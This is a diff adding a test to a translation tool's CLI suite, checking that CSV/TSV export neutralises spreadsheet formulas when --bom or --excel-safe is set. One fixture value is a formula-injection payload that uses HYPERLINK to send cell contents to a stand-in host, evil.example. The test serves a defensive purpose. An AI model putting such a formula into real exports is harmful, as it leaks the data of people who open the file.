@@ -8,7 +8,7 @@ import { serializeProject } from '../core/project';
 import { importText } from '../core/text';
 import { alignableSentences } from '../core/model/doc';
 import { readWithToolkit, translateToolkitMissing } from './helpers/translate-toolkit';
-import { sampleProject, ZH } from './fixtures/formats/sample-project';
+import { RU, sampleProject, ZH } from './fixtures/formats/sample-project';
 
 const root = join(__dirname, '..');
 const bundle = join(root, 'out', 'test-cli', 'index.js');
@@ -80,6 +80,30 @@ describe('duizhao export', () => {
     expect(xlf.code).toBe(0);
     expect(xlf.stdout).toContain('target-language="ru-RU"');
     expect(xlf.stdout).toContain(ZH.talks);
+  });
+
+  it('CSV/TSV formula protection: on with --bom, off without, --excel-safe / --no-excel-safe override', () => {
+    const p = sampleProject();
+    const dialogue = '- Мы готовы продолжить диалог, — сказал министр.';
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    p.targets.ru!.paragraphs[1]!.sentences[0]!.text = dialogue;
+    p.targets.en!.paragraphs[2]!.sentences[0]!.text = formula;
+    const project = join(dir, 'formulas.duizhao.json');
+    writeFileSync(project, serializeProject(p));
+    const cells = (...flags: string[]) => {
+      const r = duizhao('export', project, '--no-qa', ...flags);
+      expect(r.code, r.stderr).toBe(0);
+      return r.stdout;
+    };
+    const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
+    const plain = cells('--to', 'csv');
+    expect(plain).toContain(`,${quoted(formula)},`);
+    expect(plain).toContain(`,${quoted(`${dialogue} ${RU.talks}`)},`);
+    const safe = cells('--to', 'csv', '--bom');
+    expect(safe).toContain(`,${quoted(`'${formula}`)},`);
+    expect(safe).toContain(`,${quoted(`'${dialogue} ${RU.talks}`)},`);
+    expect(cells('--to', 'csv', '--bom', '--no-excel-safe')).toBe(`\uFEFF${plain}`);
+    expect(cells('--to', 'tsv', '--excel-safe')).toContain(`\t${quoted(`'${formula}`)}\t`);
   });
 
   it('a TMX export reopens as input: tmx → xliff 2.1 of the same pairs', () => {
